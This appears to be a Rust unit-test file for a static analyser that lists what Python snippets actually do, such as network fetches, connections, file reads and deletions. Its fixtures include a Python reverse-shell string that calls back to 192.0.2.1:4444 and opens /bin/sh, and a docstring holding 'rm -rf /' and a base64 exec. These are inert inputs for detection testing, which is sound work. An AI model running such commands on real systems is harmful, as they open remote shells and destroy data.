//! Honest programs: no acts beyond the truth.

use super::{acts, check};

#[test]
fn honest_programs() {
    check(&[
        ("import math\nprint(math.pi)", &[]),
        (
            "import requests\nr = requests.get('https://api.example.com/v1/items')\nfor i in r.json():\n    print(i['name'])",
            &["fetch https://api.example.com/v1/items"],
        ),
        (
            "import socket\ns = socket.socket()\nif s.connect_ex(('db', 5432)) == 0:\n    print('up')",
            &["connect#1 Tcp db:5432"],
        ),
        (
            "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 7))\ns.listen()\nwhile True:\n    c, a = s.accept()\n    c.sendall(c.recv(1024))",
            &["listen#1 Tcp 127.0.0.1:7", "send#1 {received}"],
        ),
        (
            "PAYLOAD = \"import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',4444));pty.spawn('/bin/sh')\"\nassert 'pty' in PAYLOAD",
            &[],
        ),
        (
            "'''\nos.system('rm -rf /')\nexec(base64.b64decode('x'))\n'''\nimport os\nprint(os.getcwd())",
            &[],
        ),
        (
            "from setuptools import setup\nsetup(name='x', version='1')",
            &[],
        ),
        (
            "import os\nBASE = os.path.dirname(os.path.abspath(__file__))\nDEBUG = os.environ.get('DEBUG', '') == '1'",
            &[],
        ),
        ("def exec_(self):\n    return self.evaluate()\n", &[]),
        ("import re\nre.compile('exec').match('x')", &[]),
        ("x = [i ** 2 for i in range(10)]\nprint(sum(x))", &[]),
        (
            "import logging\nlog = logging.getLogger(__name__)\nlog.info('socket %s', 1)",
            &[],
        ),
        (
            "import paramiko\nc = paramiko.SSHClient()\nc.connect('host', username='u')\nc.exec_command('uptime')",
            &["connect#1 Tcp host:22", "send#1 uptime"],
        ),
        (
            "import json\nwith open('config.json') as f:\n    c = json.load(f)",
            &[],
        ),
        ("if False:\n    import os\n    os.system('never')", &[]),
        (
            "import threading\nt = threading.Thread(target=print, args=('x',))\nt.start()",
            &[],
        ),
        (
            "import unittest\nclass T(unittest.TestCase):\n    def test(self):\n        self.assertEqual(eval('1+1'), 2)",
            &["evaluate Python: 1+1"],
        ),
        (
            "import smtplib\ns = smtplib.SMTP('mail', 25)\ns.sendmail('a', 'b', 'hello')",
            &["connect#1 Tcp mail:25", "send#1 hello"],
        ),
        (
            "import urllib.request\n\ndef ping(url):\n    return urllib.request.urlopen(url).status\n",
            &["fetch {argument}"],
        ),
        (
            "import os\nos.makedirs('out', exist_ok=True)\nos.chdir('out')",
            &[],
        ),
        (
            "import tempfile, os\nfd, p = tempfile.mkstemp()\nos.close(fd)",
            &[],
        ),
        (
            "class Socket:\n    def connect(self, a):\n        pass\nSocket().connect(('192.0.2.1', 1))\nopen",
            &[],
        ),
        (
            "class F:\n    def open(self, p):\n        return open(p)\n    def read(self):\n        return self.open('/etc/hosts').read()",
            &["read /etc/hosts"],
        ),
    ]);
}

#[test]
fn branches_join_to_what_tells_most() {
    check(&[
        (
            "import os\nc = None\nif x:\n    c = 'a'\nos.popen(c)",
            &["evaluate shell: a"],
        ),
        (
            "import os\ntry:\n    c = 'a'\nexcept Exception:\n    c = None\nos.remove(c)",
            &["delete a"],
        ),
        (
            "import os\nif x:\n    p = '/a'\nelse:\n    p = ''\nos.remove(p)",
            &["delete /a"],
        ),
        (
            "import os\ndef f(a):\n    if a:\n        return None\n    return '/x'\nos.remove(f(x))",
            &["delete /x"],
        ),
    ]);
}

#[test]
fn nothing_is_told_twice() {
    let found = acts("import os\ndef f():\n    os.remove('/a')\nfor i in range(1000):\n    f()");
    assert!(found.len() <= 4, "{found:?}");
}

#[test]
fn what_is_printed_is_returned() {
    let budget = model::Budget::default();
    let mut world = crate::world::World::new(&budget);
    let script = "import sys\nprint('curl', 'x', sep='-')\nprint 'y', 1\nsys.stdout.write('z')";
    let code = model::Value::literal(script);
    let printed = world.evaluate(
        model::Language::Python,
        &code,
        model::Step::new("python -c"),
    );
    assert_eq!(printed.text, "curl-x\ny 1\nz");
    assert!(printed.known);
}
